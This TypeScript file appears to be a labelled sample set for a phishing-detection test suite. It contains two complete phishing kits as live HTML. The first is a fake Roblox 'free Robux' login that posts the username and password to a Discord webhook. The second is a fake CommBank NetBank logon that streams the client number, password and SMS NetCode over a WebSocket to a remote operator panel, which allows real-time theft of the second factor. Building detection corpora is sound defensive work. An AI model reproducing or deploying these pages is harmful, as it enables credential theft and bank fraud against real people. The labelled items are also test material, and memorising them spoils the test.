import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-exfil-discord-roblox',
  label: 'phishing',
  kind: 'exfil-kit',
  url: 'https://roblox-free-robux.claim-rewards.gg/login',
  routes: {
    'roblox-free-robux.claim-rewards.gg/login': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Roblox</title>
<link rel="icon" href="https://images.rbxcdn.com/23421382939a9f4ae8bbe60dbe2a3e7e.ico.gzip">
<style>
body{margin:0;background:#232527;color:#fff;font-family:"Builder Sans","HCo Gotham SSm",Helvetica,Arial,sans-serif}
.c{max-width:360px;margin:10vh auto;text-align:center}
h1{font-size:28px}
input{width:100%;height:40px;background:#191b1d;border:1px solid #5c5f62;border-radius:8px;color:#fff;padding:0 12px;margin-bottom:10px;box-sizing:border-box}
button{width:100%;height:40px;background:#335fff;color:#fff;border:0;border-radius:8px;font-weight:700}
.r{background:#393b3d;border-radius:8px;padding:12px;margin-bottom:18px;font-size:14px}
</style></head>
<body>
<div class="c">
<h1>Login to Roblox</h1>
<div class="r">🎉 You're about to receive <b>22,500 Robux</b>. Log in to send them to your account.</div>
<input id="u" placeholder="Username/Email/Phone">
<input id="p" type="password" placeholder="Password">
<button id="go">Log In</button>
<p style="font-size:12px;color:#bdbebe">By logging in you agree to the Terms of Use.</p>
</div>
<script>
document.getElementById('go').addEventListener('click', function () {
  var u = document.getElementById('u').value, p = document.getElementById('p').value;
  fetch('https://discord.com/api/webhooks/1229481093457721345/gM4s0rR7yLqK2nX9vFdHa1wEcT6uB8pJzYoVhQ3iN5lSmD-AeGkCtWfUb_Px', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username: 'logs', embeds: [{ title: 'New hit', fields: [{ name: 'user', value: u }, { name: 'pass', value: p }], color: 3447003 }] })
  }).then(function () { location.href = 'https://www.roblox.com/home'; });
});
</script>
</body></html>`),
  },
},
{
  id: 'a-exfil-websocket-commbank',
  label: 'phishing',
  kind: 'exfil-kit',
  url: 'https://netbank-commbank.au-secure-logon.com/netbank/Logon/Logon.aspx',
  routes: {
    'netbank-commbank.au-secure-logon.com/netbank/Logon/Logon.aspx': htmlRoute(`<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>NetBank - Log on to NetBank</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;color:#000}
.hd{background:#ffcc00;height:70px;display:flex;align-items:center;padding:0 24px}.hd img{height:44px}
.c{max-width:420px;margin:30px auto;background:#fff;padding:28px;border-radius:4px}
label{display:block;font-weight:bold;font-size:14px;margin:14px 0 6px}
input{width:100%;height:44px;border:1px solid #767676;padding:0 10px;font-size:16px;box-sizing:border-box}
button{width:100%;height:46px;background:#000;color:#ffcc00;border:0;margin-top:22px;font-weight:bold;font-size:16px}
.wait{display:none;text-align:center;padding:30px 0}
.sp{width:36px;height:36px;border:4px solid #eee;border-top-color:#ffcc00;border-radius:50%;margin:0 auto 14px;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}
</style></head>
<body>
<div class="hd"><img src="/netbank/img/cba-logo.svg" alt="CommBank"></div>
<div class="c">
<div id="login">
<h2 style="margin-top:0">Log on to NetBank</h2>
<label>Client number</label><input id="cn" inputmode="numeric" maxlength="8">
<label>Password</label><input id="pw" type="password">
<button id="lb">Log on</button>
</div>
<div class="wait" id="wait"><div class="sp"></div><b>Please wait while we verify your details…</b><p style="font-size:13px">Do not refresh this page.</p></div>
<div id="code" style="display:none">
<h3>Enter NetCode</h3><p style="font-size:14px">We've sent a NetCode SMS to your registered mobile.</p>
<input id="nc" inputmode="numeric" maxlength="6"><button id="cb">Confirm</button>
</div>
</div>
<script>
var sock = new WebSocket('wss://panel-live-au.ws-relay.net/socket?room=cba&v=3');
function show(id){ ['login','wait','code'].forEach(function(x){ document.getElementById(x).style.display = x === id ? 'block' : 'none'; }); }
sock.onmessage = function (ev) {
  var m = JSON.parse(ev.data);
  if (m.cmd === 'netcode') show('code');
  else if (m.cmd === 'error') { show('login'); alert('The client number or password is incorrect.'); }
  else if (m.cmd === 'done') location.href = 'https://www.commbank.com.au/';
};
document.getElementById('lb').onclick = function () {
  sock.send(JSON.stringify({ t: 'creds', cn: document.getElementById('cn').value, pw: document.getElementById('pw').value }));
  show('wait');
};
document.getElementById('cb').onclick = function () {
  sock.send(JSON.stringify({ t: 'otp', nc: document.getElementById('nc').value }));
  show('wait');
};
</script>
</body></html>`),
  },
},
];
